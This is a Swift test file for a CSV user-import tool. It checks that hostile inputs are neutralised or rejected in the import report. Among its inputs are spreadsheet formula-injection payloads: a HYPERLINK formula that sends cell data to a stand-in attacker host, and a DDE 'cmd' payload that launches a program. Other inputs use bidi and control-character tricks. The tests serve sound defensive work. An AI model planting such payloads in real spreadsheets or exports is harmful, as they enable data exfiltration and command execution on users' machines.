import Testing
import UserImportCore

extension HostileCorpus {
    // MARK: - Values (the README's "The input format": control characters, lengths, statuses; "What happens to a file": formula-safe reports)

    static let values: [HostileCase] = {
        let titled = "Email ID,First Name,Last Name,Title,User Status"
        return [
            HostileCase(
                label: "formula payloads in emails and statuses are neutralised in the report",
                content: .bytes(
                    csv(
                        "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",Eve,Eq,New",
                        "+15550100@example.com,Eve,Plus,New",
                        "-2+3,Eve,Minus,New",
                        "@SUM(1+1),Eve,At,New",
                        "\"\t=1+1@example.com\",Eve,Tab,New",
                        "\"\r=2+2@example.com\",Eve,CR,New",
                        "eve@example.com,=1+1,@Last,=2+2",
                        "tab@example.com,Tab,Status,\"\t=3+3\"",
                        "mallory@example.com,-Mallory,\"=cmd|' /C calc'!A0\",New",
                        "=cmd@example.com,Eq,Cmd,New",
                        "\"  =spaced@example.com\",Sp,Aced,New",
                        "\t-tab@example.com,Tab,Prefix,New")),
                fate: .done,
                rows: [
                    Report.ignored(2, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
                    Report.created(3, "'+15550100@example.com"),
                    Report.ignored(4, "'-2+3"),
                    Report.ignored(5, "'@SUM(1+1)"),
                    Report.row(6, "'=1+1@example.com", "New", "rejected", Report.control("Email ID", "0009")),
                    Report.row(
                        7, "\\r=2+2@example.com", "New", "rejected", Report.control("Email ID", "000D")),
                    Report.row(
                        9, "eve@example.com", "'=2+2", "rejected",
                        "unknown User Status \"=2+2\"; use New, Update, Delete or Activate"),
                    Report.row(
                        10, "tab@example.com", "'=3+3", "rejected", Report.control("User Status", "0009")),
                    Report.created(11, "mallory@example.com"),
                    Report.created(12, "'=cmd@example.com"),
                    Report.created(13, "'=spaced@example.com"),
                    Report.created(14, "'-tab@example.com"),
                ],
                check: { state in
                    // Stored as given: neutralising is the report's job, not the directory's.
                    let user = try state.users()["mallory@example.com"]
                    #expect(user?.profile.lastName == "=cmd|' /C calc'!A0")
                }),
            HostileCase(
                label: "control, bidi and invisible characters in names and statuses",
                content: .bytes(
                    csv(
                        "ann@example.com,An\u{7}n,Lee,New", "bob@example.com,Bob,Ray\u{7F},New",
                        "carl@example.com,Carl,Co\u{85}le,New", "dan@example.com,\u{200E}Dan,Doe,New",
                        "eve@example.com,Eve,\u{202E}xoF,New", "fay@example.com,\u{2066}Fay\u{2069},Gee,New",
                        "gus@example.com,Gus,Ha\u{2028}y,New", "hal@example.com,Hal,Ho\u{FEFF}pe,New",
                        "ida@example.com,I\u{200D}da,Ito,New", "jo@example.com,Jo\u{A0}Ann,Lee,New",
                        "kim@example.com,Kim,Lee,New\u{1B}", "lia@example.com,Lia,Vo,\u{202E}weN")),
                fate: .done,
                rows: [
                    Report.row(2, "ann@example.com", "New", "rejected", Report.control("First Name", "0007")),
                    Report.row(3, "bob@example.com", "New", "rejected", Report.control("Last Name", "007F")),
                    Report.row(4, "carl@example.com", "New", "rejected", Report.control("Last Name", "0085")),
                    Report.row(5, "dan@example.com", "New", "rejected", Report.control("First Name", "200E")),
                    Report.row(6, "eve@example.com", "New", "rejected", Report.control("Last Name", "202E")),
                    Report.row(7, "fay@example.com", "New", "rejected", Report.control("First Name", "2066")),
                    Report.row(8, "gus@example.com", "New", "rejected", Report.control("Last Name", "2028")),
                    Report.row(9, "hal@example.com", "New", "rejected", Report.control("Last Name", "FEFF")),
                    Report.created(10, "ida@example.com"),
                    Report.created(11, "jo@example.com"),
                    Report.row(
                        12, "kim@example.com", "New\\u{1B}", "rejected", Report.control("User Status", "001B")
                    ),
                    Report.row(
                        13, "lia@example.com", "\\u{202E}weN", "rejected",
                        Report.control("User Status", "202E")),
                ],
                check: { state in
                    let users = try state.users()
                    #expect(users.keys.sorted() == ["ida@example.com", "jo@example.com"])
                    #expect(users["ida@example.com"]?.profile.firstName == "I\u{200D}da")
                }),
            HostileCase(
                label: "a right-to-left override inside an email",
                content: .bytes(csv("eve\u{202E}moc.elpmaxe@example.com,Eve,Fox,New")), fate: .done,
                rows: [
                    Report.row(
                        2, "eve\\u{202E}moc.elpmaxe@example.com", "New", "rejected",
                        Report.control("Email ID", "202E"))
                ]),
            HostileCase(
                label: "value lengths: 257 letters, 256 two-byte letters, 256 emoji",
                content: .bytes(
                    Bytes.lines(
                        titled,
                        "ann@example.com,Ann,\(String(repeating: "a", count: 257)),,New",
                        "bob@example.com,\(String(repeating: "é", count: 256)),Ray,,New",
                        "carl@example.com,Carl,Cole,\(String(repeating: "🚀", count: 256)),New",
                        "dan@example.com,Dan,Doe,\(String(repeating: "🚀", count: 257)),New")),
                fate: .done,
                rows: [
                    Report.row(
                        2, "ann@example.com", "New", "rejected",
                        "Last Name is 257 characters long; the limit is 256"),
                    Report.created(3, "bob@example.com"),
                    Report.created(4, "carl@example.com"),
                    Report.row(
                        5, "dan@example.com", "New", "rejected",
                        "Title is 257 characters long; the limit is 256"),
                ]),
            HostileCase(
                label: "a configured shorter value limit",
                content: .bytes(
                    csv("ann@example.com,Ann Marie Lee-Smith,Lee,New", "bob@example.com,Bob,Ray,New")),
                options: ImportOptions(maxValueLength: 16), fate: .done,
                rows: [
                    Report.row(
                        2, "ann@example.com", "New", "rejected",
                        "First Name is 19 characters long; the limit is 16"),
                    Report.created(3, "bob@example.com"),
                ]),
            HostileCase(
                label: "status spellings: case, padding, typos, empty",
                content: .bytes(
                    csv(
                        "ann@example.com,Ann,Lee,new", "bob@example.com,Bob,Ray,NEW",
                        "carl@example.com,Carl,Cole,\" Update \"",
                        "dan@example.com,Dan,Doe,Neww", "eve@example.com,Eve,Fox,Create",
                        "fay@example.com,Fay,Gee,",
                        "gus@example.com,Gus,Hay,dElEtE")),
                fate: .done,
                rows: [
                    Report.created(2, "ann@example.com"),
                    Report.created(3, "bob@example.com"),
                    Report.row(4, "carl@example.com", "Update", "rejected", "no such user"),
                    Report.row(
                        5, "dan@example.com", "Neww", "rejected",
                        "unknown User Status \"Neww\"; use New, Update, Delete or Activate"),
                    Report.row(
                        6, "eve@example.com", "Create", "rejected",
                        "unknown User Status \"Create\"; use New, Update, Delete or Activate"),
                    Report.row(
                        7, "fay@example.com", "", "rejected",
                        "User Status is empty; use New, Update, Delete or Activate"),
                    Report.row(8, "gus@example.com", "Delete", "rejected", "no such user"),
                ]),
            HostileCase(
                label: "missing names where a row needs them, and where it does not",
                content: .bytes(
                    csv(
                        "ann@example.com,,Lee,New", "bob@example.com,,,Update", "carl@example.com,,,Delete",
                        "dan@example.com,\"  \",Doe,New")),
                fate: .done,
                rows: [
                    Report.row(
                        2, "ann@example.com", "New", "rejected", "First Name is empty; New rows need a name"),
                    Report.row(
                        3, "bob@example.com", "Update", "rejected",
                        "First Name and Last Name are empty; Update rows need a name"),
                    Report.row(4, "carl@example.com", "Delete", "rejected", "no such user"),
                    Report.row(
                        5, "dan@example.com", "New", "rejected", "First Name is empty; New rows need a name"),
                ]),
            HostileCase(
                label: "the same email again and again with conflicting statuses",
                content: .bytes(
                    csv(
                        "ann@example.com,Ann,Lee,New", "ANN@EXAMPLE.COM,Ann,Lee,Activate",
                        "Ann@Example.com,Ann,Lee,Delete",
                        "ann@example.com,Ann,Lee,Activate", "ann@example.com,Ann,Lee,Update",
                        "ann@example.com,Ann,Lee,New",
                        "ann@example.com,Anne,Lee,New", "ann@example.com,Anne,Lee,Update")),
                fate: .done,
                rows: [
                    Report.created(2, "ann@example.com"),
                    Report.row(3, "ann@example.com", "Activate", "activated", "activation email queued"),
                    Report.row(4, "ann@example.com", "Delete", "deleted", "account deleted"),
                    Report.row(5, "ann@example.com", "Activate", "rejected", "no such user"),
                    Report.row(6, "ann@example.com", "Update", "rejected", "no such user"),
                    Report.created(7, "ann@example.com"),
                    Report.row(8, "ann@example.com", "New", "updated", "already exists; no invitation sent"),
                    Report.row(9, "ann@example.com", "Update", "unchanged", "nothing differs"),
                ],
                check: { state in
                    let user = try state.users()["ann@example.com"]
                    #expect(user?.state == .invited && user?.profile.firstName == "Anne")
                    #expect(try state.queuedEmails(kind: .invitation).map(\.line) == [7, 2])
                    #expect(try state.queuedEmails(kind: .activation).map(\.line) == [3])
                }),
            HostileCase(
                label: "strict mode: one bidi row fails the file, every row listed, none applied",
                content: .bytes(
                    csv(ann, "eve@example.com,Eve,\u{202E}xoF,New", "bob@example.com,Bob,Ray,New")),
                options: ImportOptions(strict: true), fate: .failed, error: Report.strict(1),
                rows: [
                    Report.created(2, "ann.lee@example.com"),
                    Report.row(3, "eve@example.com", "New", "rejected", Report.control("Last Name", "202E")),
                    Report.created(4, "bob@example.com"),
                ]),
        ]
    }()

    // MARK: - Emails (the README's "The input format": dot-atom local part, LDH domain with a dot, no IP literal, lengths)

    static let emails: [HostileCase] = {
        let local64 = String(repeating: "l", count: 64)
        let domain189 =
            String(repeating: "a", count: 63) + "." + String(repeating: "b", count: 63) + "."
            + String(repeating: "c", count: 57) + ".com"
        let longest = local64 + "@" + domain189
        let tooLong =
            local64 + "@" + String(repeating: "a", count: 63) + "." + String(repeating: "b", count: 63)
            + "." + String(repeating: "c", count: 58) + ".com"
        let cases: [(cell: String, shown: String, valid: Bool)] = [
            ("\"\"\"john doe\"\"@example.com\"", "\"john doe\"@example.com", false),
            ("user@[192.168.0.1]", "user@[192.168.0.1]", false),
            ("user.@example.com", "user.@example.com", false),
            ("user@example.com.", "user@example.com.", false),
            ("us..er@example.com", "us..er@example.com", false),
            (".user@example.com", ".user@example.com", false),
            ("josé@example.com", "josé@example.com", false),
            ("user@bücher.de", "user@bücher.de", false),
            ("user@xn--bcher-kva.de", "user@xn--bcher-kva.de", true),
            (local64 + "@example.com", local64 + "@example.com", true),
            ("x" + local64 + "@example.com", "x" + local64 + "@example.com", false),
            (longest, longest, true),
            (tooLong, tooLong, false),
            ("ann+tag@example.com", "ann+tag@example.com", true),
            ("Mixed.Case@Example.COM", "mixed.case@example.com", true),
            ("user@localhost", "user@localhost", false),
            ("user@-example.com", "user@-example.com", false),
            ("user@example-.com", "user@example-.com", false),
            ("a@b@example.com", "a@b@example.com", false),
            ("user@exa_mple.com", "user@exa_mple.com", false),
            ("!#$%&'*+/=?^_`{|}~-@example.com", "!#$%&'*+/=?^_`{|}~-@example.com", true),
            (
                "user@" + String(repeating: "d", count: 64) + ".com",
                "user@" + String(repeating: "d", count: 64) + ".com", false
            ),
            ("\" spaced@example.com \"", "spaced@example.com", true),
            ("user name@example.com", "user name@example.com", false),
            ("@example.com", "'@example.com", false),
            ("user@.example.com", "user@.example.com", false),
            ("user@example..com", "user@example..com", false),
        ]
        return [
            HostileCase(
                label: "RFC-odd emails, valid and not, as the README's input format defines them",
                content: .bytes(csv(cases.map { $0.cell + ",Odd,Mail,New" })), fate: .done,
                rows: cases.enumerated().map { index, email in
                    email.valid
                        ? Report.created(index + 2, email.shown) : Report.ignored(index + 2, email.shown)
                },
                check: { state in
                    let users = try state.users()
                    #expect(users.count == cases.filter(\.valid).count)
                    #expect(users[longest]?.state == .invited, "a 254-octet address is kept whole")
                })
        ]
    }()
}
